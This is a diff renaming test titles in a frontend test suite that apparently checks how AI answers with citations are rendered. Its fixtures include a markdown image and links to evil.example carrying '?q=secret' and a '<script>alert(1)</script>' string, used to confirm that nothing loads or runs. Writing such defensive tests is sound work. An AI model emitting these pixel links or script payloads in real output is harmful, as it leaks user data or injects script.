@@ -48,7 +48,7 @@ const awkwardPieces = [
 ];
 const nothingCited = { citations: [] };
 
-test("no picture is loaded, and no link leaves, whatever the text says", async () => {
+test("loads no picture and keeps no external link, whatever the text contains", async () => {
   const page = await mount(
     [
       "See ![a pixel](https://evil.example/p.png?q=secret) and [this](https://evil.example/x),",
@@ -66,7 +66,7 @@ test("no picture is loaded, and no link leaves, whatever the text says", async (
   expect(page.textContent).toContain("<script>alert(1)</script>");
 });
 
-test("a definition in the text does not take a citation's place", async () => {
+test("keeps a citation when the text contains a link definition", async () => {
   const page = await mount("So it is [1].\n\n[1]: https://evil.example/x\n\n[^1]: a note");
   const markers = screen.getAllByRole("link", { name: /^Source 1: / });
   for (const marker of markers) {
@@ -75,19 +75,19 @@ test("a definition in the text does not take a citation's place", async () => {
   expect(page.querySelector("[href*=evil]")).toBeNull();
 });
 
-test("only numbers that are cited become markers; code keeps its brackets", async () => {
+test("turns only cited numbers into markers, and keeps brackets in code", async () => {
   const page = await mount("Two [1] and [7], `list[1]`.");
   expect(screen.getAllByRole("link", { name: /^Source/ })).toHaveLength(1);
   expect(page.textContent).toContain("and [7]");
   expect(page.querySelector("code")!.textContent).toBe("list[1]");
 });
 
-test("of an answer that was stopped, markers without a source are left out", async () => {
+test("drops markers without a source in a stopped answer", async () => {
   const page = await mount("Half of it [1] and [2].", { outcome: "stopped" });
   expect(page.querySelector("p")!.textContent).toBe("Half of it1 and.");
 });
 
-test("the person's own note leads to the note, and is set apart", async () => {
+test("links to the user's note, and sets it apart", async () => {
   await mount("You said so [1].", {
     citations: [{ ...citation, field: "why", start: null, end: null, quote: "Resistance." }],
   });
@@ -97,7 +97,7 @@ test("the person's own note leads to the note, and is set apart", async () => {
   screen.getByText("Your note");
 });
 
-test("a quote stands among the sources, unless the answer is that quote", async () => {
+test("lists quotes among the sources, unless the answer is that quote", async () => {
   const { quote } = citation;
   const own = await mount("In other words [1].");
   expect(own.querySelector("blockquote")!.textContent).toBe(`“${quote}”`);
@@ -106,7 +106,7 @@ test("a quote stands among the sources, unless the answer is that quote", async 
   expect(quoting.querySelector("blockquote")).toBeNull();
 });
 
-test("a marker lights up its source while it is looked at", async () => {
+test("highlights the source of a marker that is hovered or focused", async () => {
   const user = userEvent.setup();
   const page = await mount("So it is [1].");
   const lit = () => page.querySelectorAll("[data-pointed-at]").length;
@@ -119,14 +119,14 @@ test("a marker lights up its source while it is looked at", async () => {
   expect(lit()).toBe(1);
 });
 
-test("who wrote it is said: a model by name, or the saved sentences themselves", async () => {
+test("names the author: a model, or the saved sentences themselves", async () => {
   const byModel = await mount("Text.", { model: "anthropic: claude-haiku-4-5", ...nothingCited });
   expect(byModel.textContent).toContain("Written by anthropic: claude-haiku-4-5");
   const quoted = await mount("Text.", nothingCited);
   expect(quoted.textContent).toContain("Sentences from what you saved");
 });
 
-test("any text is drawn without an element that loads or runs something", () => {
+test("renders any text without an element that loads or runs something", () => {
   const piece = fc.constantFrom(...awkwardPieces);
   fc.assert(
     fc.property(
